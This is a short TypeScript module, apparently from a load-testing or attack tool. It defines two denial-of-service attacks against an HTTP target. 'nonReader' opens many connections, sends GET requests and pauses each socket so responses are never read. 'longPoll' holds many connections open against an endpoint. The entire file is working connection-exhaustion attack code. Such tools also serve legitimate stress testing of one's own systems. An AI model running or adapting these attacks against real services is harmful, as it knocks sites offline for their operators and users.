/** Answers that nobody takes: connections that ask for much and read nothing. */
import type { Attack } from './attack.ts'

export const nonReader: Attack = (target, swarm, { connections, path }) => {
  swarm.openMany(Number(connections), () => {
    const socket = swarm.connect(target.http, 'plain', () => {
      socket.pause()
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`)
    })
  })
}

/** Answers that are long in coming: connections that ask an endpoint for what it has not got yet. */
export const longPoll: Attack = (target, swarm, { connections, path }) => {
  swarm.openMany(Number(connections), () => {
    const socket = swarm.connect(target.http, 'plain', () => {
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`)
    })
    socket.resume()
  })
}
